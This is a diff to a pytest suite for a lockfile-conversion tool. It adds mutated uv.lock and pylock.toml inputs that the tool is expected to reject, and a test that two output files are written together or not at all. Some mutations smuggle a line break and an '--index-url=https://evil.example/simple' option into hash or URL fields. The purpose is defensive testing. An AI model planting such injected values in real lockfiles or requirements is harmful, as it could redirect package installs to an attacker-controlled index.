@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -138,7 +139,22 @@ HOSTILE = {
     "deep": lambda text: text + "x = " + "[" * 100_000 + "]" * 100_000 + "\n",
     "no-source": lambda text: text.replace('source = { registry', 'origin = { registry', 1),
     "unknown-dependency": lambda text: text.replace('{ name = "bar" }', '{ name = "nope" }', 1),
+    # a hash is written into the requirements lock: a line break in it would add an option line
+    "hash-injects-an-option": lambda text: re.sub(r"([0-9a-f]{64})", r"\1\\n--index-url=https://evil.example/simple", text, 1),
+    "hash-short": lambda text: re.sub(r"([0-9a-f]{64})", "abc", text, 1),
+    # a package listed twice for the same environment (pylock.toml: PEP 751 allows one; uv.lock: a
+    # second fork of the same version and source, which its dependents cannot tell apart)
+    "listed-twice": lambda text: text + text[text.index('[[package'):].split("\n\n")[0] + "\n",
+    # bar as a direct URL (uv.lock: its source; pylock.toml: an archive), a line break in the URL
+    "url-injects-an-option": lambda text: re.sub(
+        r'(name = "bar"\nversion = "2.0"\n)(source = \{ registry = "[^"]*" \}|index = "[^"]*")',
+        r'\1source = { url = "https://x.example/bar-2.0-py3-none-any.whl\\n--index-url=https://evil.example/simple" }\n'
+        r'archive = { url = "https://x.example/bar-2.0.tar.gz\\n--index-url=https://evil.example/simple", hashes = { sha256 = "' + "0" * 64 + '" } }',
+        text, 1),
 }
+
+
+HOSTILE_READ_BY_BOTH = {"hash-injects-an-option", "hash-short", "url-injects-an-option"}
 
 
 @pytest.mark.parametrize("fmt", ["uv-lock", "pylock"])
@@ -151,6 +167,7 @@ def test_hostile_toml_locks_are_one_error_line(world: dict, tmp_path: Path, fmt:
     flag = "--uv-lock" if fmt == "uv-lock" else "--pylock"
     result = run_cli("lock", flag, str(bad), "--index", str(world["index"]), "--out", str(tmp_path / "out.txt"))
     if result.returncode == 0:  # the mutation missed what this format reads: a result, then
+        assert mutation not in HOSTILE_READ_BY_BOTH and (fmt, mutation) != ("pylock", "listed-twice")
         assert (tmp_path / "out.txt").exists()
         return
     assert result.returncode == 1
@@ -290,3 +307,18 @@ def test_uv_refuses_the_written_lock_when_the_wheel_is_not_the_one_we_wrote(worl
     refused = subprocess.run([UV, "sync", "--frozen", "--python", sys.executable], cwd=project, env=env,
                              capture_output=True, text=True, timeout=300)  # fmt: skip
     assert refused.returncode != 0 and "hash" in refused.stderr.lower(), refused.stderr
+
+
+@pytest.mark.parametrize("second", ["same-as-out", "directory", "missing-directory"])
+def test_two_outputs_are_written_both_or_neither(world: dict, tmp_path: Path, second: str) -> None:
+    """--out-uv-lock that cannot be written (or is --out itself, which one output would silently
+    overwrite) is one error line naming the flag, and --out is not written either."""
+    out = tmp_path / "requirements.txt"
+    target = {"same-as-out": out, "directory": tmp_path, "missing-directory": tmp_path / "gone" / "uv.lock"}[second]
+    result = run_cli("lock", "--uv-lock", str(world["project"] / "uv.lock"), "--index", str(world["index"]),
+                     "--out", str(out), "--out-uv-lock", str(target))  # fmt: skip
+    assert result.returncode == 1
+    (line,) = result.stderr.splitlines()
+    assert line.startswith(f"patched-wheels: error: --out-uv-lock {target}: ")
+    assert not out.exists()
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
